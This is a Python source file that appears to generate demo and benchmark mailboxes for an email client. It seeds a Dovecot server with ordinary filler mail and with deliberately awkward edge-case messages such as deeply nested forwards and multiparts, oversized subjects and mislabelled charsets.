        me, mid = self.owner, self.ids
        u2028 = "Budget \u2028 line\u2029 separators \x85 next-line \x0b tab \x0c feed"
        nested = b"Content-Type: text/plain\n\nThe innermost message, 300 forwards deep.\n"
        for depth in range(300):
            nested = (
                f"From: Level {depth} <level{depth}@nest.example>\nTo: {me}\n"
                f"Subject: Fwd level {depth}\nMIME-Version: 1.0\n"
                "Content-Type: message/rfc822\n\n"
            ).encode() + nested
        deep_multipart = b"Deepest text part.\n"
        for depth in range(200):
            b = f"d{depth}"
            deep_multipart = (
                f'Content-Type: multipart/mixed; boundary="{b}"\n\n--{b}\n'.encode()
                + deep_multipart
                + f"\n--{b}--\n".encode()
            )
        utf8_bytes = "Café crème, naïve façade — déjà vu.\n".encode()
        long_name = "Quarterly-report-" + "very-" * 1000 + "long.pdf"
        return [
            # Sent with Bcc only: no To at all.
            (
                "Sent",
                (
                    f"Date: @@DATE@@\nFrom: {self.owner_name} <{me}>\nBcc: bob@example.test\n"
                    f"Subject: Sent with Bcc only\nMessage-ID: {mid('example.test')}\n"
                    "Content-Type: text/plain\n\nNobody is in To or Cc.\n"
                ).encode(),
                "S",
            ),
            # Drafts saved before a recipient (and a subject) was typed.
            (
                "Drafts",
                (
                    f"Date: @@DATE@@\nFrom: {me}\nSubject: Draft without a recipient\n"
                    f"Message-ID: {mid('example.test')}\n"
                    "Content-Type: text/plain\n\nNotes for later.\n"
                ).encode(),
                "DS",
            ),
            (
                "Drafts",
                f"Date: @@DATE@@\nFrom: {me}\nMessage-ID: {mid('example.test')}\n\n\n".encode(),
                "DS",
            ),
            # No From header.
            (
                "INBOX",
                (
                    f"Date: @@DATE@@\nTo: {me}\nSubject: Message without a From header\n"
                    f"Message-ID: {mid('nofrom.example')}\n"
                    "Content-Type: text/plain\n\nWho sent this?\n"
                ).encode(),
                None,
            ),
            # Nothing but a body: no From, To, Subject, Date or Message-ID.
            (
                "INBOX",
                b"Content-Type: text/plain\n\nA message with no headers worth the name.\n",
                None,
            ),
            # Line/paragraph separators and C0/C1 controls in the subject and a name.
            (
                "INBOX",
                (
                    "Date: @@DATE@@\nFrom: "
                    + formataddr(("Odd\u2028Name", "odd@controls.example"), charset="utf-8")
                    + f"\nTo: {me}\nSubject: "
                    + Header(u2028, "utf-8", header_name="Subject").encode(linesep="\n ")
                    + f"\nMessage-ID: {mid('controls.example')}\n"
                    "Content-Type: text/plain; charset=utf-8\n\nSee the subject.\n"
                ).encode(),
                None,
            ),
            # UTF-8 bytes labelled as Latin-1, and under a label no codec knows.
            (
                "INBOX",
                (
                    "Date: @@DATE@@\nFrom: Mislabelled <mis@charset.example>\n"
                    f"To: {me}\nSubject: Café crème (UTF-8 labelled iso-8859-1)\n"
                    f"Message-ID: {mid('charset.example')}\nMIME-Version: 1.0\n"
                    "Content-Type: text/plain; charset=iso-8859-1\n"
                    "Content-Transfer-Encoding: 8bit\n\n"
                ).encode()
                + utf8_bytes,
                None,
            ),
            (
                "INBOX",
                (
                    "Date: @@DATE@@\nFrom: Mislabelled <mis@charset.example>\n"
                    f"To: {me}\nSubject: Café crème in charset x-mac-nonsense\n"
                    f"Message-ID: {mid('charset.example')}\nMIME-Version: 1.0\n"
                    "Content-Type: text/html; charset=x-mac-nonsense\n"
                    "Content-Transfer-Encoding: 8bit\n\n<p>"
                ).encode()
                + utf8_bytes
                + b"</p>\n",
                None,
            ),
            # Forwarded 300 times, each as an attached message; and 200 nested multiparts.
            (
                "INBOX",
                (
                    "Date: @@DATE@@\nFrom: Deep Forward <deep@nest.example>\n"
                    f"To: {me}\nSubject: Forwarded 300 levels deep\n"
                    f"Message-ID: {mid('nest.example')}\nMIME-Version: 1.0\n"
                    "Content-Type: message/rfc822\n\n"
                ).encode()
                + nested,
                None,
            ),
            (
                "INBOX",
                (
                    "Date: @@DATE@@\nFrom: Deep Multipart <deep@nest.example>\n"
                    f"To: {me}\nSubject: Multiparts nested 200 levels deep\n"
                    f"Message-ID: {mid('nest.example')}\nMIME-Version: 1.0\n"
                ).encode()
                + deep_multipart,
                None,
            ),
            # A 1 MB subject (longer than the IMAP library's line limit).
            (
                "INBOX",
                (
                    "Date: @@DATE@@\nFrom: Huge Subject <huge@header.example>\n"
                    f"To: {me}\nSubject: Huge subject " + "spam " * 220_000 + "\n"
                    f"Message-ID: {mid('header.example')}\n"
                    "Content-Type: text/plain\n\nThe subject is over a megabyte long.\n"
                ).encode(),
                None,
            ),
            # An empty group for recipients, and a recipient without a domain.
            (
                "INBOX",
                (
                    "Date: @@DATE@@\nFrom: Newsletter Robot <robot@groups.example>\n"
                    "To: undisclosed-recipients:;\nCc: postmaster\n"
                    f"Subject: To an empty group\nMessage-ID: {mid('groups.example')}\n"
                    "Content-Type: text/plain\n\nSent to nobody in particular.\n"
                ).encode(),
                None,
            ),
            # Attachment names: 5,000 characters long, and RFC 2231 in a charset nobody knows.
            (
                "INBOX",
                (
                    "Date: @@DATE@@\nFrom: Files <files@names.example>\n"
                    f"To: {me}\nSubject: Attachments with awkward names\n"
                    f"Message-ID: {mid('names.example')}\nMIME-Version: 1.0\n"
                    'Content-Type: multipart/mixed; boundary="names"\n\n'
                    "--names\nContent-Type: text/plain\n\nTwo files.\n"
                    "--names\nContent-Type: application/pdf\n"
                    f'Content-Disposition: attachment; filename="{long_name}"\n'
                    "Content-Transfer-Encoding: base64\n\n"
                    + base64.encodebytes(tiny_pdf("long name")).decode()
                    + "--names\nContent-Type: application/pdf\nContent-Disposition: attachment;\n"
                    " filename*0*=x-unknown''R%E9sum%E9%20de;\n filename*1*=%20l%27ann%E9e.pdf\n"
                    "Content-Transfer-Encoding: base64\n\n"
                    + base64.encodebytes(tiny_pdf("resume")).decode()
                    + "--names--\n"
                ).encode(),
                None,
            ),
        ]

    # ----------------------------------------------------------------- run
    def build(self, count: int) -> dict[str, list[Item]]:
        showcase = self.showcase()
        for folder, raw, ts, flags in showcase:
            self.add(folder, raw, ts, flags)
        filler = max(0, count - len(showcase))
        weights = {
            "INBOX": 0.36,
            "Sent": 0.14,
            "Drafts": 0.01,
            "Trash": 0.05,
            "Junk": 0.03,
            "Archive": 0.15,
            "Projects": 0.06,
            "Projects/2026": 0.06,
            "Projects/2025": 0.06,
            "Newsletters": 0.08,
        }
        plan = {f: int(filler * w) for f, w in weights.items()}
        plan["INBOX"] += filler - sum(plan.values())
        for folder, n in plan.items():
            lo, hi = self.range_for(folder)
            for _ in range(n):
                ts = float(int(self.rng.uniform(lo, hi)))
                self.add(folder, self.filler(folder, ts), ts)
        for items in self.out.values():
            items.sort(key=lambda item: item[2])
        return self.out

    def range_for(self, folder: str) -> tuple[float, float]:
        lo, hi = self.start, self.end - DAY
        if folder in ("Projects/2025", "Projects/2026"):
            year = int(folder[-4:])
            y_lo = dt.datetime(year, 1, 1, tzinfo=dt.UTC).timestamp()
            y_hi = dt.datetime(year + 1, 1, 1, tzinfo=dt.UTC).timestamp() - 1
            if max(lo, y_lo) < min(hi, y_hi):
                return max(lo, y_lo), min(hi, y_hi)
        if folder == "Archive":
            return lo, hi - 90 * DAY
        if folder == "Trash":
            return hi - 60 * DAY, hi
        return lo, hi


def demo_messages(owner: str, *, count: int = 320, end: float | None = None) -> dict[str, list[Item]]:
    """The demo mailbox of ``owner``: folder → [(raw bytes, maildir flags, unix time)].

    ``end`` is the newest date (default: today 00:00 UTC); mail spreads over
    the ~18 months before it. Each folder's list is sorted oldest first.
    """
    return _Builder(owner, _end_of(end)).build(count)


def simple_inbox(owner: str, count: int, *, seed: str, end: float | None = None) -> list[Item]:
    """``count`` ordinary messages (INBOX-like) for secondary demo users."""
    builder = _Builder(owner, _end_of(end))
    builder.rng = random.Random(seed)
    items: list[Item] = []
    for _ in range(count):
        ts = float(int(builder.rng.uniform(builder.end - 120 * DAY, builder.end)))
        items.append((builder.filler("INBOX", ts), builder.flags("INBOX", ts), ts))
    items.sort(key=lambda item: item[2])
    return items


# ------------------------------------------------------------- bulk (100k)
_WORDS = (
    "alpha beta gamma delta report meeting invoice budget update review plan release "
    "server client design travel lunch team project status weekly monthly quarterly "
    "urgent reminder question answer feedback proposal contract schedule agenda notes"
).split()
_LOREM = (
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor "
    "incididunt ut labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud "
    "exercitation ullamco laboris nisi ut aliquip ex ea commodo consequat.\n"
)


def bulk_messages(owner: str, count: int, *, end: float | None = None, seed: int = 1) -> Iterator[Item]:
    """Yield ``count`` simple, varied messages quickly (for benchmark folders).

    Sizes range from about 1 to 20 KB; about 1 in 10 carries a small base64
    attachment. Dates rise steadily over the ~18 months before ``end``, so
    UID order follows date order. Built by string formatting, not the email
    package, so 100,000 messages take a few seconds.
    """
    rng = random.Random(seed)
    last = _end_of(end)
    first = last - SPAN_DAYS * DAY
    step = (last - first) / max(count, 1)
    senders = [(c[0] if c[0].isascii() else "", c[1]) for c in CONTACTS + NEWSLETTERS]
    from_headers = [_addr(s).encode() for s in senders]
    lorem = _LOREM.encode()
    body_pool = lorem * (20_000 // len(lorem) + 1)
    attachments = [base64.encodebytes(rng.randbytes(n)) for n in (600, 1500, 3000)]
    to = owner.encode()
    randrange, choice, random_ = rng.randrange, rng.choice, rng.random
    for i in range(count):
        ts = first + i * step + random_() * step
        subject = f"{choice(_WORDS).title()} {choice(_WORDS)} {choice(_WORDS)} #{i}".encode()
        date = format_datetime(dt.datetime.fromtimestamp(ts, dt.UTC)).encode()
        size = randrange(700, 19_500)
        head = (
            b"Date: "
            + date
            + b"\nFrom: "
            + choice(from_headers)
            + b"\nTo: "
            + to
            + b"\nSubject: "
            + subject
            + b"\nMessage-ID: <bulk."
            + str(i).encode()
            + b"."
            + str(seed).encode()
            + b"@bulk.example>\nMIME-Version: 1.0\n"
        )
        text = body_pool[:size]
        if i % 10 == 7:
            raw = (
                head
                + b'Content-Type: multipart/mixed; boundary="b'
                + str(i).encode()
                + b'"\n\n--b'
                + str(i).encode()
                + b"\nContent-Type: text/plain; charset=us-ascii\n\n"
                + text
                + b"\n--b"
                + str(i).encode()
                + b"\nContent-Type: application/octet-stream; name=data.bin\n"
                b"Content-Disposition: attachment; filename=data.bin\n"
                b"Content-Transfer-Encoding: base64\n\n"
                + choice(attachments)
                + b"--b"
                + str(i).encode()
                + b"--\n"
            )
        else:
            raw = head + b"Content-Type: text/plain; charset=us-ascii\n\n" + text + b"\n"
        flags = "S" if random_() < 0.9 else ""
        if random_() < 0.03:
            flags += "F"
        yield raw, flags, float(int(ts))


# --------------------------------------------------------------- seeding
def seed_demo(instance: DovecotInstance, *, end: float | None = None) -> None:
    """Create the demo users and fill their mailboxes (skipped where mail exists)."""
    for address, password in [*DEMO_USERS, EXTERNAL_POP_USER]:
        instance.add_user(address, password)
    alice, bob = DEMO_USERS[0][0], DEMO_USERS[1][0]
    external = EXTERNAL_POP_USER[0]

    def has_mail(address: str) -> bool:
        return instance.message_count(address, "INBOX") > 0

    if not has_mail(alice):
        for folder, items in demo_messages(alice, end=end).items():
            instance.write_messages(alice, folder, items)
    fillers: list[tuple[str, int, Callable[[], list[Item]]]] = [
        (bob, 20, lambda: simple_inbox(bob, 20, seed="bob", end=end)),
        (external, 25, lambda: _external_inbox(external, end)),
    ]
    for address, _n, make in fillers:
        if not has_mail(address):
            instance.write_messages(address, "INBOX", make())
    _share_team_folder(instance, owner=bob, reader=alice, end=end)


def _share_team_folder(instance: DovecotInstance, *, owner: str, reader: str, end: float | None) -> None:
    """Bob shares "Team" with Alice (read and organise), so her tree shows "Shared with me".

    Over IMAP (SETACL), as any client would; only the first time, so a later change by hand stays."""
    if instance.message_count(owner, "Team") > 0:
        return
    instance.write_messages(owner, "Team", simple_inbox(owner, 6, seed="team", end=end))
    password = dict(DEMO_USERS)[owner]
    client = ImapConnection(instance.host, port=instance.imap_port, ssl=False, timeout=10)
    try:
        client.login(owner, password)
        client.setacl("Team", reader, "lrsw")
    finally:
        client.logout()


def _external_inbox(address: str, end: float | None) -> list[Item]:
    """Mail waiting on the external POP account: ordinary mail plus a few awkward ones."""
    items = simple_inbox(address, 23, seed="external-pop", end=end)
    last = _end_of(end)
    long_line = "x" * 3000
    extra = [
        (
            f"Date: {_date(last - 3 * 3600, 0)}\nFrom: Long Lines <long@lines.example>\n"
            f"To: {address}\nSubject: Header longer than poplib's 2048-byte line limit\n"
            f"Message-ID: <long-line.1@lines.example>\nX-Long: {long_line}\n\n"
            "Hello from a message with a long header line.\n"
        ).encode(),
        _compose(
            [
                ("Date", _date(last - 2 * 3600, 1)),
                ("From", _addr(CONTACTS[0])),
                ("To", address),
                ("Subject", _subject("Übersicht mit Anhang")),
                ("Message-ID", "<attach.2@example.de>"),
            ],
            _with_attachment(),
        ),
    ]
    items.extend((raw, "", last - (2 - n) * 3600) for n, raw in enumerate(extra))
    return items


def _with_attachment() -> MIMEPart:
    body = _text("Hallo,\n\nanbei die Übersicht.\n\nZoë\n")
    body.make_mixed()
    body.add_attachment(tiny_pdf("Overview"), "application", "pdf", filename="Übersicht.pdf")
    return body
